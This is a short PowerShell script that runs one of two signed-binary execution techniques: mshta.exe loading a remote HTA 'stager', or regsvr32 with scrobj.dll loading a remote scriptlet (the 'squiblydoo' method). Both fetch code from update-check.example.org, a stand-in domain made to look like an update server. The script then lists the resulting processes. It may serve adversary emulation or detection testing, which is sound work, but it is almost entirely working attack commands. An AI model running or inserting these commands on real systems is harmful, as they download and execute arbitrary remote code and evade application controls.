param([string]$Stage = 'b')

if ($Stage -eq 'a') {
    # HTA with VBScript stager
    mshta.exe http://update-check.example.org/portal/page.hta
}
else {
    # squiblydoo
    regsvr32.exe /s /n /u /i:http://update-check.example.org/portal/comp.sct scrobj.dll
}
Start-Sleep -Seconds 5
Get-Process -Name mshta, regsvr32 -ErrorAction SilentlyContinue | Select-Object Id, ProcessName
